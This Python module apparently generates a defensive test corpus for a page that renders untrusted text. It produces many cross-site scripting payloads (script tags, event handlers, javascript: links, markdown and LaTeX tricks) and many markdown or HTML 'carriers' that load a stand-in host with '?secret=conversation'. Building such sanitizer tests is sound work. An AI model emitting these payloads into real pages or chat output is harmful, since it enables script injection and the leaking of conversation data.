"""Generated attacks on a page that shows foreign text: scripts that want to run, carriers that want to send."""

# ruff: noqa: E501, SIM905

import html
import itertools
from urllib.parse import quote

MARK = "window.__pwn=1"
FOREIGN = "http://foreign.test"

_TAGS = (
    "script img svg iframe object embed video audio body input details marquee math a form button base link style meta "
    "select textarea keygen isindex frameset template noscript xmp plaintext title animate set foreignObject use image "
    "source track portal dialog slot custom-element"
).split()
_EVENTS = "onerror onload onclick onfocus onmouseover ontoggle onbegin onstart onanimationstart onpointerenter".split()
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "&#106;avascript:{}", "&#x6A;avascript:{}",
    "javascript&colon;{}", "\x01javascript:{}", " javascript:{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd249MTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={}>",
    "javascript://%0a{}", "//foreign.test/{}", "\\\\foreign.test\\{}", "blob:{}", "filesystem:{}", "view-source:{}",
    "javascript:%77indow.__pwn=1",
)  # fmt: skip
_MARKDOWN = (
    "[x]({})", "[x](<{}>)", '[x]({} "t")', "![x]({})", "<{}>", "[x][r]\n\n[r]: {}", "![x][r]\n\n[r]: {}", "[![x]({})]({})",
    "| a |\n|---|\n| [x]({}) |", "> [x]({})", "- [x]({})", "# [x]({})", "**[x]({})**", "`[x]({})`", "[x]\n({})", "{}",
)  # fmt: skip
_FRAMES = (
    "{}", "```html\n{}\n```", "```{}\ncode\n```", "    {}", "> {}", "- {}", "# {}", "| {} |\n|---|\n| {} |", "`{}`", "**{}**",
    "$${}$$", "\\({}\\)", "$$\n\\text{{{}}}\n$$", "\\begin{{align}}{}\\end{{align}}", "![{}](http://foreign.test/a.png)",
    "[{}](https://foreign.test/)", "<!-- {} -->", "<![CDATA[{}]]>", "</textarea>{}", "</script>{}", "\"'>{}",
)  # fmt: skip
_LATEX = (
    "\\href{{javascript:{}}}{{x}}", "\\url{{javascript:{}}}", "\\htmlData{{onclick={}}}{{x}}", "\\style{{x:expression({})}}{{y}}",
    "\\class{{\" onclick={} }}{{y}}", "\\text{{<img src=x onerror={}>}}", "\\unicode{{x3c}}script>{}", "\\mathchoice{{{}}}{{}}{{}}{{}}",
    "&lt;script&gt;{}&lt;/script&gt;", "\\color{{red\" onload=\"{}}}{{x}}", "\\operatorname{{<script>{}</script>}}",
    "\\begin{{array}}{{\" onclick={} }}x\\end{{array}}",
)  # fmt: skip


def scripts() -> list[str]:
    """Return at least 1,500 different texts that would run MARK in a careless page."""
    elements = []
    for tag in _TAGS:
        elements.append(f"<{tag} src=x href=x>{MARK}</{tag}>")
        elements += [f"<{tag} src=x {event}={MARK} tabindex=1 autofocus>" for event in _EVENTS]
    elements += [
        f"<script>{MARK}</script>",
        f"<scr<script>ipt>{MARK}</script>",
        f'<img src=x onerror="{MARK}"//',
        "<svg/onload=" + MARK,
    ]
    links = [scheme.format(MARK) for scheme in _SCHEMES]
    found = list(elements)
    found += [form.replace("{}", link) for form in _MARKDOWN for link in links]
    found += [
        frame.replace("{{", "{").replace("}}", "}").replace("{}", element)
        for frame in _FRAMES
        for element in elements[::12]
    ]
    found += [form.replace("{{", "{").replace("}}", "}").replace("{}", MARK).join(("$$", "$$")) for form in _LATEX]
    found += [html.escape(element) for element in elements[::4]] + [quote(element) for element in elements[::8]]
    found += [element.replace("<", "\uff1c").replace(" ", "\u00a0") for element in elements[::8]]
    found += [element.replace("<", "<\0").upper() for element in elements[::8]]
    found += [f'<{tag} style="background:url({link})">' for tag, link in itertools.product(_TAGS[:12], links[:6])]
    return list(dict.fromkeys(found))


def carriers() -> list[str]:
    """Return at least 300 different texts that would have a careless page call another machine."""
    found: list[str] = []
    for number in range(12):
        url = f"{FOREIGN}/{number}?secret=conversation"
        bare = url.removeprefix("http:")
        found += [
            f"![a]({url})", f"![a][r{number}]\n\n[r{number}]: {url}", f"![a](<{url}>)", f"[![a]({url})]({url})", f"<img src={url}>",
            f'<img srcset="{url} 2x">', f"<picture><source srcset={url}></picture>", f"<link rel=preconnect href={url}>",
            f"<link rel=dns-prefetch href={url}>", f"<link rel=stylesheet href={url}>", f"<style>@import '{url}'</style>",
            f"<div style='background:url({url})'>", f"<svg><image href={url} /></svg>", f"<svg><use href={url}#a /></svg>",
            f"<meta http-equiv=refresh content='0;url={url}'>", f"<iframe src={url}>", f"<video poster={url}>", f"<audio src={url} autoplay>",
            f"<object data={url}>", f"<script src={url}></script>", f"<base href={url}>", f"<form action={url}><button autofocus>",
            f"![a]({bare})", f"![a](data:image/svg+xml,<svg><image href='{url}'/></svg>)", f"$$\\includegraphics{{{url}}}$$",
            f"```html\n<img src={url}>\n```", f"| ![a]({url}) |\n|---|", f"> ![a]({url})", f"@import url({url});",
        ]  # fmt: skip
    return list(dict.fromkeys(found))
